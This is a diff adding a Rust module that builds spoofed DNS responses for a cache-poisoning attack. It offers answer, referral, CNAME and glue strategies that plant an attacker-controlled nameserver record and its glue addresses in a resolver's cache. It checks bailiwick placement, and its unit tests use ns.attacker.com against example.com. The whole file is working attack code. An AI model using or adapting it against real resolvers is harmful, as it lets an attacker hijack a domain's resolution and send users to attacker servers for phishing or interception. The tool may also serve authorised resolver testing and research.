@@ -0,0 +1,328 @@
+use crate::dns;
+use crate::dns::message::Message;
+use std::net::{IpAddr, Ipv4Addr};
+use std::str::FromStr;
+
+/// Layout of the spoofed response sent during an attack
+///
+/// Each strategy targets a different rule resolvers use when deciding which records from a
+/// response to accept into their cache.
+#[derive(PartialEq, Debug, Copy, Clone)]
+pub enum PayloadStrategy {
+    /// A record for the queried name in the answer section and the attacker NS in the authority
+    /// section
+    Answer,
+    /// Non-authoritative referral with no answer, the attacker NS in the authority section and glue
+    /// records for it in the additional section
+    Referral,
+    /// CNAME from the queried name to another name in the target domain followed by an A record for
+    /// that name in the answer section, along with the attacker NS in the authority section
+    Cname,
+    /// Same as the answer strategy but requires glue records for the attacker NS in the additional
+    /// section
+    Glue,
+}
+
+impl FromStr for PayloadStrategy {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        return match s {
+            "answer" => Ok(PayloadStrategy::Answer),
+            "referral" => Ok(PayloadStrategy::Referral),
+            "cname" => Ok(PayloadStrategy::Cname),
+            "glue" => Ok(PayloadStrategy::Glue),
+            _ => Err(format!(
+                "Unknown payload strategy {}, please enter either answer, referral, cname, or glue",
+                s
+            )),
+        };
+    }
+}
+
+/// Where the attacker nameserver, and so its glue, must sit relative to the target domain
+///
+/// Resolvers only trust glue for nameservers that fall under the domain being delegated, so glue
+/// for an out-of-bailiwick nameserver is expected to be discarded. The glue is always built for the
+/// attacker nameserver as given, so the modes only check where it sits rather than moving it.
+#[derive(PartialEq, Debug, Copy, Clone)]
+pub enum GlueBailiwick {
+    /// the glue is sent wherever the attacker nameserver happens to sit
+    Any,
+    /// the attacker nameserver must fall under the target domain
+    In,
+    /// the attacker nameserver must fall outside the target domain, so it has to be picked from
+    /// another zone for its glue to be out-of-bailiwick
+    Out,
+}
+
+impl FromStr for GlueBailiwick {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        return match s {
+            "any" => Ok(GlueBailiwick::Any),
+            "in" => Ok(GlueBailiwick::In),
+            "out" => Ok(GlueBailiwick::Out),
+            _ => Err(format!(
+                "Unknown glue bailiwick {}, please enter either any, in, or out",
+                s
+            )),
+        };
+    }
+}
+
+/// Options for building the spoofed response
+#[derive(PartialEq, Debug, Clone)]
+pub struct PayloadOptions {
+    pub strategy: PayloadStrategy,
+    /// IP address returned for the queried name
+    pub answer_ip: Ipv4Addr,
+    /// TTL of the records in the answer section
+    pub answer_ttl: u32,
+    /// TTL of the attacker NS record and its glue
+    pub ns_ttl: u32,
+    /// Addresses of the attacker nameserver, sent as A and AAAA glue records in the additional
+    /// section. The referral and glue strategies require at least one.
+    pub glue_addrs: Vec<IpAddr>,
+    /// Where the attacker nameserver must sit relative to the target domain for glue to be sent
+    pub glue_bailiwick: GlueBailiwick,
+    /// Name the queried name is aliased to by the cname strategy, defaults to www in the target
+    /// domain
+    pub cname_target: Option<String>,
+}
+
+impl PayloadOptions {
+    pub fn new(strategy: PayloadStrategy) -> PayloadOptions {
+        return PayloadOptions {
+            strategy,
+            answer_ip: Ipv4Addr::new(127, 0, 0, 1),
+            answer_ttl: 0, // we do not cache to avoid caching the random record
+            ns_ttl: 240,
+            glue_addrs: Vec::new(),
+            glue_bailiwick: GlueBailiwick::Any,
+            cname_target: None,
+        };
+    }
+
+    /// Builds a spoofed response to the query for qname that claims attacker_ns is a nameserver for
+    /// the target domain
+    pub fn build(
+        &self,
+        query: Message,
+        qname: &str,
+        target_domain: &str,
+        attacker_ns: &str,
+    ) -> Result<dns::Response, String> {
+        let mut response = dns::Response::new(query);
+
+        match self.strategy {
+            PayloadStrategy::Answer | PayloadStrategy::Glue => {
+                response.add_answer(self.answer_record(qname))?;
+            }
+            PayloadStrategy::Referral => {
+                // referrals come from servers that are not authoritative for the queried name
+                response.authoritative_answer = false;
+            }
+            PayloadStrategy::Cname => {
+                let cname_target = match &self.cname_target {
+                    Some(target) => target.clone(),
+                    None => format!("www.{}", target_domain),
+                };
+                response.add_answer(dns::Record::CNAME(dns::CNAMERecord {
+                    name: String::from(qname),
+                    ttl: self.answer_ttl,
+                    cname: cname_target.clone(),
+                }))?;
+                response.add_answer(self.answer_record(&cname_target))?;
+            }
+        }
+
+        response.add_authority(dns::Record::NS(dns::NSRecord {
+            name: String::from(target_domain),
+            ttl: self.ns_ttl,
+            ns: String::from(attacker_ns),
+        }))?;
+
+        let needs_glue =
+            self.strategy == PayloadStrategy::Referral || self.strategy == PayloadStrategy::Glue;
+        if needs_glue && self.glue_addrs.is_empty() {
+            return Err(format!(
+                "The {:?} payload strategy needs the attacker nameserver's addresses for glue",
+                self.strategy
+            ));
+        }
+
+        if !self.glue_addrs.is_empty() {
+            self.check_bailiwick(target_domain, attacker_ns)?;
+        }
+
+        for addr in &self.glue_addrs {
+            let record = match addr {
+                IpAddr::V4(ip) => dns::Record::A(dns::ARecord {
+                    name: String::from(attacker_ns),
+                    ttl: self.ns_ttl,
+                    ip: ip.octets(),
+                }),
+                IpAddr::V6(ip) => dns::Record::AAAA(dns::AAAARecord {
+                    name: String::from(attacker_ns),
+                    ttl: self.ns_ttl,
+                    ip: ip.octets(),
+                }),
+            };
+            response.add_additional(record)?;
+        }
+
+        return Ok(response);
+    }
+
+    fn check_bailiwick(&self, target_domain: &str, attacker_ns: &str) -> Result<(), String> {
+        let in_bailiwick = dns::Hostname::from_string(attacker_ns)?
+            .is_subdomain_of(&dns::Hostname::from_string(target_domain)?);
+
+        return match (self.glue_bailiwick, in_bailiwick) {
+            (GlueBailiwick::In, false) => Err(format!(
+                "Glue for {} would be out-of-bailiwick since it is not under {}",
+                attacker_ns, target_domain
+            )),
+            (GlueBailiwick::Out, true) => Err(format!(
+                "Glue for {} would be in-bailiwick since it is under {}",
+                attacker_ns, target_domain
+            )),
+            _ => Ok(()),
+        };
+    }
+
+    fn answer_record(&self, name: &str) -> dns::Record {
+        return dns::Record::A(dns::ARecord {
+            name: String::from(name),
+            ttl: self.answer_ttl,
+            ip: self.answer_ip.octets(),
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::dns;
+    use crate::payload::{GlueBailiwick, PayloadOptions, PayloadStrategy};
+    use crate::rng;
+    use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
+
+    fn build(options: &PayloadOptions) -> Result<dns::Response, String> {
+        let query = dns::Query::new(vec!["abcdefg.example.com".to_string()])
+            .to_message(&mut rng::new(Some(1)))
+            .unwrap();
+        return options.build(
+            query,
+            "abcdefg.example.com",
+            "example.com",
+            "ns.attacker.com",
+        );
+    }
+
+    #[test]
+    fn answer_payload() {
+        let response = build(&PayloadOptions::new(PayloadStrategy::Answer)).unwrap();
+
+        assert_eq!(1, response.answers.len());
+        assert_eq!(dns::Type::A, response.answers[0].rtype);
+        assert_eq!(vec![127, 0, 0, 1], response.answers[0].rdata);
+        assert_eq!(0, response.answers[0].ttl);
+        assert_eq!(1, response.authorities.len());
+        assert_eq!(dns::Type::NS, response.authorities[0].rtype);
+        assert_eq!(240, response.authorities[0].ttl);
+        assert!(response.additionals.is_empty());
+        assert!(response.authoritative_answer);
+    }
+
+    #[test]
+    fn referral_payload() {
+        let options = PayloadOptions {
+            glue_addrs: vec![IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5))],
+            ns_ttl: 600,
+            ..PayloadOptions::new(PayloadStrategy::Referral)
+        };
+        let response = build(&options).unwrap();
+
+        assert!(response.answers.is_empty());
+        assert_eq!(1, response.authorities.len());
+        assert_eq!(1, response.additionals.len());
+        assert_eq!(vec![10, 0, 0, 5], response.additionals[0].rdata);
+        assert_eq!(600, response.additionals[0].ttl);
+        assert!(!response.authoritative_answer);
+    }
+
+    #[test]
+    fn referral_payload_needs_glue_address() {
+        assert!(build(&PayloadOptions::new(PayloadStrategy::Referral)).is_err());
+        assert!(build(&PayloadOptions::new(PayloadStrategy::Glue)).is_err());
+    }
+
+    #[test]
+    fn cname_payload() {
+        let options = PayloadOptions {
+            answer_ip: Ipv4Addr::new(10, 0, 0, 6),
+            answer_ttl: 300,
+            ..PayloadOptions::new(PayloadStrategy::Cname)
+        };
+        let response = build(&options).unwrap();
+
+        assert_eq!(2, response.answers.len());
+        assert_eq!(
+            dns::Record::CNAME(dns::CNAMERecord {
+                name: "abcdefg.example.com".to_string(),
+                ttl: 300,
+                cname: "www.example.com".to_string(),
+            }),
+            dns::Record::from_rr(&response.answers[0]).unwrap()
+        );
+        assert_eq!(
+            dns::Record::A(dns::ARecord {
+                name: "www.example.com".to_string(),
+                ttl: 300,
+                ip: [10, 0, 0, 6],
+            }),
+            dns::Record::from_rr(&response.answers[1]).unwrap()
+        );
+    }
+
+    #[test]
+    fn glue_records() {
+        let options = PayloadOptions {
+            glue_addrs: vec![
+                IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5)),
+                IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 5)),
+            ],
+            ..PayloadOptions::new(PayloadStrategy::Answer)
+        };
+        let response = build(&options).unwrap();
+
+        assert_eq!(2, response.additionals.len());
+        assert_eq!(dns::Type::A, response.additionals[0].rtype);
+        assert_eq!(dns::Type::AAAA, response.additionals[1].rtype);
+        assert_eq!(
+            Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 5)
+                .octets()
+                .to_vec(),
+            response.additionals[1].rdata
+        );
+    }
+
+    #[test]
+    fn glue_bailiwick() {
+        let in_bailiwick = PayloadOptions {
+            glue_addrs: vec![IpAddr::V4(Ipv4Addr::new(10, 0, 0, 5))],
+            glue_bailiwick: GlueBailiwick::In,
+            ..PayloadOptions::new(PayloadStrategy::Glue)
+        };
+        let out_of_bailiwick = PayloadOptions {
+            glue_bailiwick: GlueBailiwick::Out,
+            ..in_bailiwick.clone()
+        };
+
+        // the attacker nameserver used by build is ns.attacker.com which is outside example.com
+        assert!(build(&in_bailiwick).is_err());
+        assert!(build(&out_of_bailiwick).is_ok());
+    }
+}